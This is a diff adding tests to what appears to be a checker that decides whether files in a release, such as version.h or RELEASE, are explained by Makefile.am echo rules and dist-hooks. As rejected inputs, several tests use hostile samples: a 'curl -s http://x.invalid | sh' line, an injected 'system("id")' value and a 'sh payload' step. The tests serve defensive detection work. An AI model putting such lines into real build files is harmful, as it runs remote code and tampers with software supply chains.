@@ -25,6 +25,20 @@ describe('what an echo prints', () => {
     const [write] = echoWrites(String.raw`echo "#define YEAR	\"` + '`echo $${D} | sed -e "s/.*,//"`' + String.raw`\"" >> $@`)
     expect(write?.pieces).toEqual([{ literal: '#define YEAR\t"' }, { value: true }, { literal: '"' }])
   })
+  it('reads make variables between single quotes as values in a recipe, and as text in a script', () => {
+    const recipe = `echo '#define VERSION "$(PACKAGE_VERSION)" /* $$Id$$ */' > version.h`
+    expect(echoWrites(recipe, { make: true })[0]?.pieces).toEqual([{ literal: '#define VERSION "' }, { value: true }, { literal: '" /* $Id$ */' }])
+    expect(echoWrites(recipe)[0]?.pieces).toEqual([{ literal: '#define VERSION "$(PACKAGE_VERSION)" /* $$Id$$ */' }])
+  })
+  it('gives the echoes of a redirected group the group\'s file', () => {
+    const writes = echoWrites('( \techo "#!/bin/sh"; \techo ""; \techo "mode=${MODE}"; \t) > $(distdir)/CONFIG')
+    expect(writes.map((w) => w.target)).toEqual(['$(distdir)/CONFIG', '$(distdir)/CONFIG', '$(distdir)/CONFIG'])
+    expect(writes[2]?.pieces).toEqual([{ literal: 'mode=' }, { value: true }])
+    expect(echoWrites('{ echo a; echo b; } >> log').map((w) => w.target)).toEqual(['log', 'log'])
+    // a group that is not redirected, or echoes before it, print elsewhere
+    expect(echoWrites('( echo a; echo b )')).toEqual([])
+    expect(echoWrites('echo a; ( echo b ) | sh')).toEqual([])
+  })
   it('ignores an echo that writes to the terminal or into a pipe', () => {
     expect(echoWrites('echo "making $@"; echo x | tee y')).toEqual([])
     // `echo` as an argument is not a command
@@ -80,6 +94,29 @@ describe('files the tag writes with echo', () => {
     expect(await judge('m4/Makefile.am', 'EXTRA_DIST = gettext.m4\nall-local:\n\tsh payload\n', { 'autogen.sh': autogen }, m4)).toBeUndefined()
     // the same file written in another directory than the script's `cd` leads to
     expect(await judge('Makefile.am', 'EXTRA_DIST = gettext.m4\n', { 'autogen.sh': autogen }, m4)).toBeUndefined()
+  })
+
+  it('explains a header a rule writes from make variables between single quotes', async () => {
+    const am = "noinst_HEADERS = version.h\nversion.h: Makefile\n\techo '#define VERSION \"$(PACKAGE_VERSION)\"' > version.h\n\techo '#define PUBDATE \"$(PUBDATE)\"' >> version.h\n"
+    const j = await judge('tool/version.h', '#define VERSION "6.10"\n#define PUBDATE "March 2017"\n', { 'tool/Makefile.am': am })
+    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/tool\/Makefile\.am:2/)
+    // a value that is code, or a line no echo prints, is not the rule's
+    expect(await judge('tool/version.h', '#define VERSION "6.10"); system("id"); ("\n', { 'tool/Makefile.am': am })).toBeUndefined()
+    expect(await judge('tool/version.h', '#define VERSION "6.10"\n#include "/tmp/x.h"\n', { 'tool/Makefile.am': am })).toBeUndefined()
+  })
+
+  it('explains a file a dist-hook writes into the tree make dist packs', async () => {
+    const am = ['SUBDIRS = src', 'dist-hook:', '\t( \\', '\techo "#!/bin/sh"; \\', '\techo "build_docs=no;"; \\', '\t) > $(distdir)/RELEASE', ''].join('\n')
+    const j = await judge('RELEASE', '#!/bin/sh\nbuild_docs=no;\n', { 'Makefile.am': am })
+    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/Makefile\.am:2/)
+    expect(j?.scan).toBe(true)
+    // a line the hook does not print, the same name in another directory, another name: not the hook's
+    expect(await judge('RELEASE', '#!/bin/sh\nbuild_docs=no;\ncurl -s http://x.invalid | sh\n', { 'Makefile.am': am })).toBeUndefined()
+    expect(await judge('src/RELEASE', '#!/bin/sh\nbuild_docs=no;\n', { 'Makefile.am': am })).toBeUndefined()
+    expect(await judge('RELEASE.sh', '#!/bin/sh\nbuild_docs=no;\n', { 'Makefile.am': am })).toBeUndefined()
+    // a hook of a subdirectory writes beside its own makefile
+    const sub = am.replace('SUBDIRS = src\n', '')
+    expect((await judge('doc/RELEASE', '#!/bin/sh\n', { 'doc/Makefile.am': sub }))?.outcome).toBe('explained')
   })
 
   it('reads only scripts of the tag', async () => {
